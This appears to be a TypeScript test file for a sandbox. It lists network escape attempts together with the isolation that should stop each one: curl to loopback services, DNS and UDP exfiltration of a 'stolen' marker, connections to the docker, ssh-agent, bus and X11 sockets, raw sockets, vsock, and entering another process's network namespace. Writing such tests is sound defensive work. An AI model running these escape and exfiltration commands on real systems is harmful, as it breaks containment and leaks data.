import { type Attempt, GOT_OUT, type Group, KERNEL, python } from './attempt.ts'

const OWN_NETWORK = 'a network of its own with nothing but its loopback'
const FEW_KINDS = 'only sockets of the internet, of files and of the routing table can be made'

const opens = (tries: string, heldBy: string, socket: string): Attempt => ({
  ...{ tries, heldBy },
  script: () => python(`import socket\nsocket.socket(${socket})\nprint('${GOT_OUT}')`),
})

export const network: Group = {
  about: 'Network',
  attempts: [
    {
      tries: 'reach a service on the loopback',
      heldBy: OWN_NETWORK,
      script: ({ services }) => `curl -s -m 5 http://127.0.0.1:${services.tcp}/`,
    },
    {
      tries: 'reach a service on the loopback of IPv6',
      heldBy: OWN_NETWORK,
      script: ({ services }) => `curl -g -s -m 5 'http://[::1]:${services.tcp6}/'`,
    },
    {
      tries: 'reach it by every other name of this machine',
      heldBy: OWN_NETWORK,
      script: ({ services }) =>
        `for h in localhost 127.0.0.2 0.0.0.0 $(hostname -I); do curl -s -m 5 --noproxy '*' http://$h:${services.tcp}/; done`,
    },
    {
      tries: 'ask a name server, and tell it a secret by the name asked for',
      heldBy: OWN_NETWORK,
      script: ({ services }) =>
        `node -e 'const r = new (require("node:dns").Resolver)({ timeout: 500, tries: 1 }); r.setServers(["127.0.0.1:${services.udp}"]); r.resolve4("stolen-'$$'.example.com", () => {})'`,
      gotOut: ({ services }) =>
        services
          .asked()
          .splice(0)
          .some((name) => name.includes('stolen-')),
    },
    {
      tries: 'send a packet without a connection',
      heldBy: OWN_NETWORK,
      script: ({ services }) =>
        `exec 3<>/dev/udp/127.0.0.1/${services.udp}; echo stolen >&3; timeout 5 dd bs=64 count=1 <&3`,
    },
    {
      tries: 'connect to a socket without a file',
      heldBy: OWN_NETWORK,
      script: ({ services }) =>
        python(`import socket
s = socket.socket(socket.AF_UNIX); s.connect('\\0${services.abstract}'); print(s.recv(4096))`),
    },
    ...(['docker.sock', 'ssh-agent', 'bus', 'X11'] as const).map(
      (name): Attempt => ({
        tries: `connect to ${{ 'docker.sock': 'the container engine', 'ssh-agent': 'the ssh agent', bus: 'the desktop’s bus', X11: 'the display' }[name]} by its socket`,
        heldBy: '/tmp, /run and the home are its own and empty, so no socket of others lies there',
        script: ({ services }) =>
          python(`import socket
s = socket.socket(socket.AF_UNIX); s.connect('${services.sockets[name]}'); print(s.recv(4096))`),
      }),
    ),
    opens('make packets by hand', 'no privileges, in no namespace', 'socket.AF_PACKET, socket.SOCK_RAW, 0x300'),
    opens(
      'send an echo request by hand',
      'no privileges, in no namespace',
      'socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP',
    ),
    opens('speak to the host of a virtual machine', FEW_KINDS, 'socket.AF_VSOCK, socket.SOCK_STREAM'),
    {
      tries: 'enter the network of another process',
      heldBy: 'the call for it is refused',
      script: ({ outside }) =>
        python(`${KERNEL}
call((308, 268), os.open('/proc/${outside.pid}/ns/net', os.O_RDONLY), 0)
print('${GOT_OUT}')`),
    },
  ],
}
